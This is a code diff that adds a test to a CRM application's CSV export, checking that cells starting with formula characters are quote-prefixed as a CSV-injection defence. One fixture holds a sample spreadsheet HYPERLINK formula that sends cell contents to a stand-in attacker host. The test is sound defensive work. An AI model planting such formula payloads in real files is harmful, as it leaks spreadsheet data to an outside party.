@@ -61,6 +61,36 @@ def test_csv_has_one_row_per_deal_on_the_filtered_board(client, staff, coeo, nor
     assert rows[3]["column"] == "Unmapped"
 
 
+def test_csv_defuses_text_that_a_spreadsheet_would_run_as_a_formula(client, staff, coeo):
+    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading quote."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    make.deal(
+        coeo.stages.lead,
+        formula,
+        value=-250,
+        organization=make.organization(coeo.integration, "+46 Holding"),
+        person=make.person(coeo.integration, "@mallory"),
+        owner=make.owner(coeo.integration, "-Eve", email="eve@example.com"),
+    )
+    make.deal(coeo.stages.qualified, "\tTabbed", organization=make.organization(coeo.integration, "\rReturn AB"))
+    coeo.stages.lead.name = "=1+1"
+    coeo.stages.lead.save()
+    client.force_login(staff)
+
+    rows = read_csv(client.get(reverse("dealflow:company_export", args=[coeo.company.slug])))
+
+    assert {key: rows[0][key] for key in ("stage", "title", "organization", "person", "owner")} == {
+        "stage": "'=1+1",
+        "title": "'" + formula,
+        "organization": "'+46 Holding",
+        "person": "'@mallory",
+        "owner": "'-Eve",
+    }
+    assert rows[0]["value"] == "-250.00" and rows[0]["weighted_value"] == "-25.00"  # numbers stay numbers
+    assert rows[1]["title"] == "'\tTabbed" and rows[1]["organization"] == "'\rReturn AB"
+    assert rows[1]["person"] == "" and rows[1]["company"] == "Coeo"
+
+
 def test_csv_follows_filters_and_spans_companies(client, staff, coeo, nordic):
     make.deal(coeo.stages.lead, "Swedish lead")
     make.deal(nordic.lead, "Nordic lead", currency="EUR")
